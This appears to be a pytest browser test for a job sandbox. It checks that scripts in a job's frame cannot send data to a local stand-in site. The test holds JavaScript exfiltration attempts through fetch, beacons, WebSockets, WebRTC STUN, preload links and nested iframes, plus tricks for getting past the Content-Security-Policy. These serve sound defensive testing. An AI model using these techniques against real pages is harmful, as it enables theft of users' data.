"""What a job's own scripts try to send to another site: nothing arrives there."""

from __future__ import annotations

import socket
from contextlib import ExitStack
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from threading import Thread
from typing import TYPE_CHECKING, Any

import pytest

from crowdflower.sandbox import Sandbox
from crowdflower.sandbox.pages.job_frame import frame_page
from tests.browser.test_job_frame import CML, FRAME, keep_all_names, launch, sign_in, wait_until

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

    from playwright.sync_api import Browser

    from crowdflower.job import Job


class Elsewhere:
    """Another site: an HTTP server, and a port for each way to send without HTTP."""

    def __init__(self) -> None:
        self.arrived: set[str] = set()
        arrived = self.arrived

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                arrived.add(self.path.lstrip("/").partition("?")[0])
                self.send_response(200)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.send_header("Content-Type", "text/javascript")
                self.end_headers()

            def do_POST(self) -> None:
                self.do_GET()

            def log_message(self, *_: Any) -> None:
                """Print nothing."""

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self._opened = ExitStack()
        self.origin = f"http://127.0.0.1:{self._server.server_port}"
        Thread(target=self._server.serve_forever, daemon=True).start()

    def port(self, name: str) -> int:
        """Return a UDP port; ``name`` has arrived when something arrives there."""
        receiver = self._opened.enter_context(socket.socket(socket.AF_INET, socket.SOCK_DGRAM))
        receiver.bind(("127.0.0.1", 0))
        receiver.settimeout(20)

        def receive() -> None:
            try:
                receiver.recv(2000)
            except OSError:  # nothing came, or it is closed
                return
            self.arrived.add(name)

        Thread(target=receive, daemon=True).start()
        return int(receiver.getsockname()[1])

    def close(self) -> None:
        self._opened.close()
        self._server.shutdown()
        self._server.server_close()


@pytest.fixture
def elsewhere() -> Iterator[Elsewhere]:
    site = Elsewhere()
    yield site
    site.close()


@pytest.fixture
def box() -> Iterator[Sandbox]:
    with Sandbox(seed=5, job_scripts=True) as box:
        yield box


def peer_connection(port: int) -> str:
    return (
        f"const peer = new RTCPeerConnection({{iceServers: [{{urls: `stun:127.0.0.1:{port}`}}]}});"
        " peer.createDataChannel(`x`); peer.createOffer().then(o => peer.setLocalDescription(o));"
    )


def scripts(site: Elsewhere) -> dict[str, str]:
    """Return ways to load or announce a script; each has the nonce that scripts can read."""
    there = site.origin
    return {
        "script": f"""let s = document.createElement('script'); s.nonce = nonce;
            s.src = '{there}/script?answers'; document.head.append(s)""",
        "import": f"import('{there}/import?answers')",
        "modulepreload": f"link(nonce + ' rel=modulepreload href={there}/modulepreload')",
        "preload": f"link(nonce + ' rel=preload as=script href={there}/preload')",
    }


def peers(site: Elsewhere) -> dict[str, str]:
    """Return ways to send without HTTP, from this frame and from fresh ones inside it."""

    def code(name: str) -> str:
        return peer_connection(site.port(name))

    def inner(name: str) -> str:
        return f"'<script nonce=' + nonce + '>{code(name)}</scr' + 'ipt>'"

    return {
        "peer": code("peer"),
        "peer-in-page": f"""let f = document.createElement('iframe');
            f.srcdoc = {inner("peer-in-page")}; document.body.append(f)""",
        "peer-in-markup": f"""let d = document.createElement('div');
            let text = {inner("peer-in-markup")}.replaceAll('"', '&quot;');
            d.innerHTML = '<iframe srcdoc="' + text + '"></iframe>'; document.body.append(d)""",
        "peer-in-shadow": f"""let d = document.createElement('div');
            let f = document.createElement('iframe'); f.srcdoc = {inner("peer-in-shadow")};
            d.attachShadow({{mode: 'closed'}}).append(f); document.body.append(d)""",
        "peer-with-replaced-means": f"""let kept = Element.prototype.remove;
            Element.prototype.remove = () => {{}}; Function.prototype.call = () => {{}};
            let f = document.createElement('iframe');
            f.srcdoc = {inner("peer-with-replaced-means")}; document.body.append(f)""",
    }


def requests(site: Elsewhere) -> dict[str, str]:
    """Return ways that the policy of the page closed from the start."""
    there = site.origin
    style = f"""@import '{there}/import-style';
        @font-face {{ font-family: x; src: url({there}/font) }}
        body {{ font-family: x !important; background: url({there}/background) !important }}"""
    markup = f"""<svg><image href={there}/svg-image /></svg><object data={there}/object></object>
        <embed src={there}/embed><video src={there}/video></video><style>{style}</style>
        <link rel=prefetch href={there}/prefetch><link rel=stylesheet href={there}/stylesheet>"""
    worker = f"new Worker(URL.createObjectURL(new Blob(['importScripts(`{there}/worker`)'])))"
    rules = f"JSON.stringify({{prefetch: [{{urls: ['{there}/speculation']}}]}})"
    return {
        "fetch": f"fetch('{there}/fetch', {{mode: 'no-cors'}})",
        "beacon": f"navigator.sendBeacon('{there}/beacon', 'answers')",
        "events": f"new EventSource('{there}/events')",
        "socket": f"new WebSocket('{there.replace('http', 'ws')}/socket')",
        "worker": worker,
        "markup": f"add(`{markup}`)",
        "speculation": f"""let s = document.createElement('script'); s.nonce = nonce;
            s.type = 'speculationrules'; s.text = {rules}; document.head.append(s)""",
        "ping": f"""let a = document.createElement('a'); a.href = '#x'; a.ping = '{there}/ping';
            document.body.append(a); a.click()""",
    }


def markup(site: Elsewhere) -> str:
    """Return markup for a form."""
    inner = peer_connection(site.port("form-frame"))
    return f"""<script/src="{site.origin}/form-slash"></script>
        <script a="b"src="{site.origin}/form-quote"></script>
        <iframe srcdoc='<script>{inner}</script>'></iframe>"""


ARRIVE = frozenset(
    [
        *("background", "beacon", "embed", "events", "fetch", "font", "form-frame"),
        *("form-quote", "form-slash", "import", "import-style"),
        *("modulepreload", "object", "peer", "peer-in-markup", "peer-in-page", "peer-in-shadow"),
        *("peer-with-replaced-means", "ping", "prefetch", "preload", "script", "socket"),
        *("stylesheet", "svg-image", "video", "worker"),
    ]
)
"""What arrives if the page in the frame has no policy, and takes nothing away from scripts."""


def code_of(steps: dict[str, str]) -> str:
    tried = "".join(f"try {{ {step} }} catch (error) {{}}\n" for step in steps.values())
    add = "const add = (html) => document.body.insertAdjacentHTML('beforeend', html);"
    add += "const link = (text) => add('<link nonce=' + text + '>');"
    nonce = "const nonce = document.currentScript.nonce;"
    done = "setTimeout(() => { document.body.id = 'tried'; }, 1500);"
    return f"{nonce} {add} setTimeout(() => {{ {tried} {done} }}, 100)"


@pytest.mark.parametrize("defended", [True, False], ids=["defended", "no defence"])
def test_nothing_that_a_script_sends_arrives_elsewhere(
    box: Sandbox,
    address: Callable[[Job], str],
    chromium: Browser,
    elsewhere: Elsewhere,
    monkeypatch: pytest.MonkeyPatch,
    defended: bool,
) -> None:
    steps = {**requests(elsewhere), **scripts(elsewhere), **peers(elsewhere)}
    job = launch(box, js=code_of(steps), cml=CML + markup(elsewhere))
    page = chromium.new_context().new_page()
    if not defended:
        # A page that this test changed on its way could not reach this machine.
        without_policy = {"Content-Security-Policy": "sandbox allow-scripts"}
        monkeypatch.setattr(frame_page, "frame_headers", lambda *_: without_policy)
        keep_all_names(page)

    sign_in(page, address(job))
    page.frame_locator(FRAME).locator("body#tried").wait_for(state="attached")

    if not defended:
        wait_until(page, lambda: elsewhere.arrived >= ARRIVE)
    page.context.close()
    assert elsewhere.arrived == (set() if defended else ARRIVE)
